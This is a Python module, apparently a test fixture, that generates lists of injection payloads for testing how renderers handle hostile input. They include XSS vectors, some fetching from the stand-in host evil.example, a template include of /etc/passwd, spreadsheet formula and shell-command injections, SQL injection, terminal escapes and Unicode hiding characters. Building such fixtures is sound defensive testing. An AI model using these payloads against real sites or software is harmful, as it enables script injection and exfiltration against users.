"""Texts that a browser, a chart, a template, a terminal or a spreadsheet would act on.

What runs says so in every way: a dialog, `pwned` on the window and an address that is asked for.
"""

# ruff: noqa: E501
from __future__ import annotations

import base64

RUN = "top.pwned=1;alert(1)"
EVIL = "http://evil.example/"
ASK = f"{RUN};fetch(`{EVIL}js`)"
DATA = f"data:text/html,<script>{RUN}</script>"
TAGS = ("img src=x", "video src=x", "audio src=x", "svg", "body", "input autofocus", "iframe",
        "details open", "marquee", "style", "object data=x", "table", "b")  # fmt: skip
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onanimationend")
BROKEN_OUT = ("", '"', "'", "`", "</script>", "</title>", "</textarea>", "-->", "]]>", "</style>",
              "\\", "\\\"", "</pre></code>", "</td></table>", "</svg>", "<!--<script>")  # fmt: skip
ADDRESSES = ("javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "\x01javascript:{}",
             "javascript&colon;{}", "javascript:/*--></title></style>*/{}",
             "vbscript:MsgBox(1)//{}")  # fmt: skip
EXPRESSIONS = ("datum.constructor.constructor({q}{0}{q})()", "this.constructor.constructor({q}{0}{q})()",
               "{q};{0};{q}", "{q}]+({0})+[{q}", "\\{q}: window.alert(1), \\{q}",
               "toString.constructor({q}{0}{q})()")  # fmt: skip


def handlers() -> list[str]:
    """A tag with a handler, broken out of what may stand around it."""
    pairs = [(tag, handler) for tag in TAGS for handler in HANDLERS][:77]
    return [
        f"{BROKEN_OUT[n % len(BROKEN_OUT)]}<{tag} {handler}={ASK}//>{n}"
        for n, (tag, handler) in enumerate(pairs)
    ]


def scripts() -> list[str]:
    """Script elements, broken out of what may stand around them."""
    plain = [f"{before}<script>{RUN}</script>{n}" for n, before in enumerate(BROKEN_OUT)]
    return [*plain,
        f"<script src={EVIL}s.js></script>", "<SCRIPT SRC=//evil.example/s.js></SCRIPT>",
        f"<svg><script>{RUN}</script></svg>", f"<svg><script href=data:,{RUN} />",
        f"<script type=module>{RUN}</script>", f"<scr<script>ipt>{RUN}</script>",
        f"<script src=data:,{RUN} a=\"", f"<script src='data:,{RUN}' nonce nonce=x a='",
        f"<script\x0c>{RUN}</script\t>", f"<noscript><p title=\"</noscript><script>{RUN}</script>\">",
        f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
        f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"%3Cscript%3E{RUN}%3C/script%3E",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    ]  # fmt: skip


def addresses() -> list[str]:
    """Addresses that run, on their own and in what leads to them."""
    found = [shape.format(RUN) for shape in ADDRESSES]
    found += [f"<a href='{address}'>go {n}</a>" for n, address in enumerate(found)]
    found += [f"[go]({address})" for address in found[:3]]
    coded = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
    return [*found,
        DATA, f"data:text/html;base64,{coded}", f"<iframe src=\"{DATA}\"></iframe>",
        f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<embed src=\"javascript:{RUN}\">",
        f"<object data='javascript:{RUN}'></object>", f"<form action='javascript:{RUN}'><button>x",
        f"<form><button formaction=\"javascript:{RUN}\">x", f"<isindex action=javascript:{RUN}>",
        f"<math><mi xlink:href=\"javascript:{RUN}\">m", f"<svg><a xlink:href=\"javascript:{RUN}\"><text>t",
        f"<svg><animate href=#main attributeName=href to=javascript:{RUN}>",
        f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={RUN}>#x\">",
        f"<svg><image href={EVIL}i.svg>", f"![x](x\" onerror=\"{RUN})", f"![x]({EVIL}p.png)",
        f"<{EVIL}auto>", f"[x]: {EVIL}ref", f"<base href={EVIL}>", f"<link rel=stylesheet href={EVIL}c>",
        f"<link rel=prefetch href={EVIL}p>", f"<style>@import '{EVIL}i.css';</style>",
        f"<style>*{{background:url({EVIL}bg)}}</style>", f"<p style=background:url({EVIL}p)>p",
        f"<img srcset={EVIL}set>", f"<audio src={EVIL}a autoplay>", f"<a ping={EVIL} href=#>ping",
        f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
        f"<portal src={EVIL}>", f"<frameset onload={RUN}>", f"<table background={EVIL}t>",
    ]  # fmt: skip


def charts() -> list[str]:
    """Vega: expressions, addresses, a whole chart; names that JavaScript's objects have."""
    spec = f'{{"data":{{"url":"{EVIL}d.json"}},"mark":"bar","usermeta":{{"embedOptions":{{"patch":"{EVIL}"}}}}}}'
    found = [e.format(RUN, q=q) for e in EXPRESSIONS for q in "'\""]
    return [*found,
        f'{{"expr": "{RUN}"}}', f'{{"signal": "{RUN}"}}', spec,
        f"<figure class=chart><div class=drawing></div><script>{spec}</script></figure>",
        "datum['x']", "__proto__", "constructor", "hasOwnProperty", "toString", "a.b[0]['c']\\.d",
        "trailing backslash \\", "nan", "<a xlink:href='javascript:alert(1)'>",
    ]  # fmt: skip


def templates() -> list[str]:
    """Templates, formulae, formats, terminals and commands."""
    return [
        "{{ 7 * 7 }}{{ config }}", "{% raw %}{% include '/etc/passwd' %}", "{# gone #}",
        "{{ ''.__class__.__mro__ }}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%(x)s %s",
        "=HYPERLINK(\"http://evil.example\")", "+cmd|' /C calc'!A0", "-1+1|cmd", "@SUM(1+1)*cmd|x!A0",
        "\t=1+1", "\uff1d1+1", "\u200b=1+1", "'; DROP TABLE runs; --", "$(touch pwned)", "`touch pwned`",
        "@everyone #1 GH-1 owner/repo@deadbeefcafe", "| a | b |\n|---|---|\n| c | d |", "```\nbroken\n```",
        "# heading\n===\n- [ ] task <details>", "<!-- aiops-lab gate -->", "::error::x", "*b* _i_ ~s~ $m$",
        "\x1b[2J\x1b[31mred\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
        "\x9b31mC1\x9c", "back\x08\x08\x08\x7fspace\rover", "[red]rich[/red][link=http://e.x]", "nul\x00nul",
    ]  # fmt: skip


def letters() -> list[str]:
    """Characters that hide, turn, join, or go on for ever."""
    return [
        "\u202egnirts desrever\u202c", "\u2066isolated\u2069\u2067", "\u061cmark\u200f\u200e",
        "line\u2028separator\u2029", "soft\u00adhyphen\u034f\u2060", "tag\U000e0041\U000e0042",
        "\u3164\u115f\u1160\uffa0\u17b4filler", "W" * 3000, "e" + "\u0301" * 400, "\ufffe\ufdd0\uffff",
        "שלום 12: +3.4 עולם", "مرحبا 50 %", "\ue000private", "a\ufe00\U000e0100", "\ufeffbom\u180e",
        "12\u206a\u206f\ufff9\ufffb",
    ]  # fmt: skip


KINDS = {
    make.__name__: make() for make in (handlers, scripts, addresses, charts, templates, letters)
}
PLAIN = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
]  # fmt: skip
EVERY = PLAIN + [text for texts in KINDS.values() for text in texts]
"""All of them; each is another text."""
PAYLOADS = PLAIN + EVERY[5::7] + KINDS["letters"] + KINDS["charts"][-9:]
PAYLOADS = [*dict.fromkeys(PAYLOADS)]
"""Some of each kind, for tests that need not see all."""
